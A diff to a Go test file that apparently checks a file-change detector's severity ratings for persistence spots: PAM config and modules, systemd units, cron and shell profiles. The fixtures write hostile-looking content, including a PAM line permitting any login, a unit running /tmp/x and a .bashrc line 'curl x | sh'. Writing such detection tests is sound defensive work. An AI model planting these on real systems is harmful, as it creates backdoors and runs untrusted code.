@@ -148,10 +148,16 @@ func TestSeverityRules(t *testing.T) {
 		}, []string{"create /etc/cron.d/job high [cron]"}},
 		{"pam", false, func(t *testing.T, r string) {
 			must(t, os.WriteFile(r+"/etc/pam.d/login", []byte("auth sufficient pam_permit.so\n"), 0o644))
-		}, []string{"change /etc/pam.d/login high [pam]"}},
+			must(t, os.MkdirAll(r+"/usr/lib/x86_64-linux-gnu/security", 0o755))
+			fstest.File("so").Create(t, r+"/usr/lib/x86_64-linux-gnu/security/pam_x.so")
+		}, []string{"change /etc/pam.d/login high [pam]", "create /usr/lib/x86_64-linux-gnu/security/pam_x.so high [pam]",
+			"create /usr/lib/x86_64-linux-gnu low [default]", "create /usr/lib/x86_64-linux-gnu/security low [default]"}},
 		{"systemd unit", false, func(t *testing.T, r string) {
 			fstest.File("[Service]\nExecStart=/tmp/x\n").Create(t, r+"/etc/systemd/system/x.service")
-		}, []string{"create /etc/systemd/system/x.service high [systemd-unit]"}},
+			must(t, os.MkdirAll(r+"/usr/lib/systemd/user", 0o755))
+			fstest.File("[Service]\n").Create(t, r+"/usr/lib/systemd/user/y.service")
+		}, []string{"create /etc/systemd/system/x.service high [systemd-unit]", "create /usr/lib/systemd/user/y.service high [systemd-unit]",
+			"create /usr/lib/systemd low [default]", "create /usr/lib/systemd/user low [default]"}},
 		{"shell profile", false, func(t *testing.T, r string) {
 			fstest.File("curl x | sh\n").Create(t, r+"/home/u/.bashrc")
 		}, []string{"create /home/u/.bashrc medium [shell-profile]"}},
